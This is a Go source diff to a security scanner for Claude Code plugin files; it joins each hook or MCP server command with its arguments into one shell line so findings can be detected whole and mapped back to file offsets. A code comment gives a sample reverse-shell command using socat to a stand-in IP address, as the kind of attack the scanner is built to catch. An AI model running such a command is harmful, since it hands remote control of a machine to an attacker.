@@ -8,6 +8,7 @@ import (
 	"path"
 	"path/filepath"
 	"regexp"
+	"sort"
 	"strings"
 	"sync"
 
@@ -489,6 +490,65 @@ func readHead(path string, max int) ([]byte, error) {
 	return buf[:n], nil
 }
 
+// cmdLine is a command and its arguments joined into one shell command
+// line, with where each part came from.
+type cmdLine struct {
+	text  []byte
+	parts []cmdPart
+}
+
+type cmdPart struct {
+	at  int // offset of the part in text
+	src int // offset of the part in the file
+	n   int // its length in the file
+}
+
+// commandLine joins cmd's text and its arguments' (each quoted for the
+// shell when it needs it).
+func commandLine(cmd *model.Skill, args []*model.Skill) cmdLine {
+	var l cmdLine
+	for i, u := range append([]*model.Skill{cmd}, args...) {
+		t := u.Body.Text
+		if i > 0 {
+			l.text = append(l.text, ' ')
+			if needsQuote(t) {
+				l.text = append(l.text, '\'')
+				t = bytes.ReplaceAll(t, []byte("'"), []byte(`'\''`))
+				l.parts = append(l.parts, cmdPart{len(l.text), u.Body.Start, len(u.Body.Text)})
+				l.text = append(append(l.text, t...), '\'')
+				continue
+			}
+		}
+		l.parts = append(l.parts, cmdPart{len(l.text), u.Body.Start, len(u.Body.Text)})
+		l.text = append(l.text, t...)
+	}
+	return l
+}
+
+// needsQuote reports an argument the shell would split or expand.
+func needsQuote(a []byte) bool {
+	return len(a) == 0 || bytes.IndexFunc(a, func(r rune) bool {
+		return !(r == '-' || r == '_' || r == '.' || r == '/' || r == ':' || r == '=' || r == '@' || r == '+' || r == ',' || r >= '0' && r <= '9' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z')
+	}) >= 0
+}
+
+// at is the file offset of offset i of the joined text: within the part it
+// falls in (or the last part before it), clamped to that part. An end
+// offset that falls at a part's start belongs to the part before.
+func (l cmdLine) at(i int, end bool) int {
+	k := sort.Search(len(l.parts), func(k int) bool {
+		if end {
+			return l.parts[k].at >= i
+		}
+		return l.parts[k].at > i
+	}) - 1
+	if k < 0 {
+		k = 0
+	}
+	p := l.parts[k]
+	return p.src + min(max(i-p.at, 0), p.n)
+}
+
 // scanOf is the analysis of p's document, run once.
 func scanOf(p *rules.Pass) *docScan {
 	return p.Doc.Memo("security-scan", func() any { return runScan(p) }).(*docScan)
@@ -532,18 +592,28 @@ func runScan(p *rules.Pass) *docScan {
 		// A plugin file (formats/plugin): each unit is a command Claude
 		// Code runs (a hook, an MCP server), read as a shell script.
 		ds.ctx.Place = secctx.Script
+		args := map[*model.Skill][]*model.Skill{}
 		for _, u := range p.Doc.Skills {
-			if u.Body == nil {
-				continue
+			if u.ArgOf != nil && u.Body != nil {
+				args[u.ArgOf] = append(args[u.ArgOf], u)
 			}
-			base := u.Body.Start
-			fs, parsed := secscan.ScanParsed(secscan.Input{Src: u.Body.Text, Rel: "command.sh"})
+		}
+		for _, u := range p.Doc.Skills {
+			if u.Body == nil || u.ArgOf != nil && u.ArgOf.Body != nil {
+				continue // an argument: read with its command
+			}
+			// The command and its arguments as one command line
+			// (socat exec:'bash -li' tcp:203.0.113.7:4444 is a reverse
+			// shell only whole); findings are placed back in the part
+			// they fall in.
+			line := commandLine(u, args[u])
+			fs, _ := secscan.ScanParsed(secscan.Input{Src: line.text, Rel: "command.sh"})
 			for _, f := range fs {
-				f.Start, f.End = f.Start+base, f.End+base
+				f.Start, f.End = line.at(f.Start, false), line.at(f.End, true)
 				ds.findings[f.Rule] = append(ds.findings[f.Rule], f)
 			}
-			for _, sp := range parsed {
-				ds.parsed = append(ds.parsed, [2]int{sp[0] + base, sp[1] + base})
+			for _, part := range line.parts {
+				ds.parsed = append(ds.parsed, [2]int{part.src, part.src + part.n})
 			}
 		}
 		ds.parsed = secscan.MergeSpans(ds.parsed)
